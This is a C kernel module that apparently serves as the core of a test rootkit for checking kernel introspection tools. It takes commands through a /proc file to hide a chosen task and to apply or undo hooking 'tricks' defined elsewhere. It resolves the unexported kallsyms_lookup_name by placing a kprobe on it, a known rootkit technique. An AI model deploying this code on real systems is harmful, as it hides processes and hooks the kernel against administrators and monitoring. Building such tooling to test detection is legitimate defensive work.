// SPDX-License-Identifier: GPL-2.0-only
/*
 * Commands by /proc/tells_rootkit: "task PID", a trick's name, "undo" (all that was
 * played, the last first).  They come from one writer, one after the other.
 */
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/proc_fs.h>
#include <linux/uaccess.h>

#include "rootkit.h"

#define MAX_PLAYED 16
#define FUNCTION_ALIGN 16ul

static struct trick *played[MAX_PLAYED];
static unsigned int nplayed;
static unsigned long (*lookup)(const char *name);

void *rootkit_symbol(const char *name)
{
	unsigned long at = lookup(name);

	if (!at)
		pr_err("tells_rootkit: this kernel has no %s\n", name);
	return (void *)at;
}

/* Of the functions that say where the others are none is exported, but a probe can be there. */
static int find_lookup(void)
{
	struct kprobe probe = { .symbol_name = "kallsyms_lookup_name" };
	int r = register_kprobe(&probe);

	if (r)
		return r;
	/* A probe is behind the function's landing pad, if it has one. */
	lookup = (void *)((unsigned long)probe.addr & ~(FUNCTION_ALIGN - 1));
	unregister_kprobe(&probe);
	return 0;
}

static void undo_all(void)
{
	while (nplayed) {
		struct trick *t = played[--nplayed];

		t->undo();
		t->played = false;
	}
}

static struct trick *find(struct trick *tricks, const char *name)
{
	for (struct trick *t = tricks; t->name; t++)
		if (!strcmp(t->name, name))
			return t;
	return NULL;
}

static int play(const char *name)
{
	struct trick *t = find(hide_tricks, name);
	int r;

	t = t ? t : find(hook_tricks, name);
	t = t ? t : find(other_tricks, name);
	if (!t)
		return -EINVAL;
	if (t->played || nplayed == MAX_PLAYED)
		return -EBUSY;
	r = t->play();
	if (r)
		return r;
	t->played = true;
	played[nplayed++] = t;
	return 0;
}

static int obey(const char *line)
{
	char word[32];
	pid_t pid;

	if (sscanf(line, "task %d", &pid) == 1)
		return nplayed ? -EBUSY : hide_choose(pid);
	if (sscanf(line, "%31s", word) != 1)
		return -EINVAL;
	if (strcmp(word, "undo"))
		return play(word);
	undo_all();
	return 0;
}

static ssize_t on_write(struct file *file, const char __user *from, size_t size, loff_t *at)
{
	char line[64] = "";
	int r;

	if (size >= sizeof(line))
		return -EINVAL;
	if (copy_from_user(line, from, size))
		return -EFAULT;
	r = obey(line);
	if (r)
		pr_err("tells_rootkit: %s: %d\n", strim(line), r);
	return r ? r : size;
}

static const struct proc_ops file_ops = { .proc_write = on_write };
static struct proc_dir_entry *file;

static int __init rootkit_init(void)
{
	int r = find_lookup();

	if (!r)
		r = hide_init();
	if (!r)
		r = hook_init();
	if (!r)
		r = other_init();
	if (r)
		return r;
	file = proc_create("tells_rootkit", 0200, NULL, &file_ops);
	return file ? 0 : -ENOMEM;
}

static void __exit rootkit_exit(void)
{
	proc_remove(file);
	undo_all();
	hide_forget();
}

module_init(rootkit_init);
module_exit(rootkit_exit);
MODULE_DESCRIPTION("A rootkit for the truth tests of introspection");
MODULE_LICENSE("GPL");
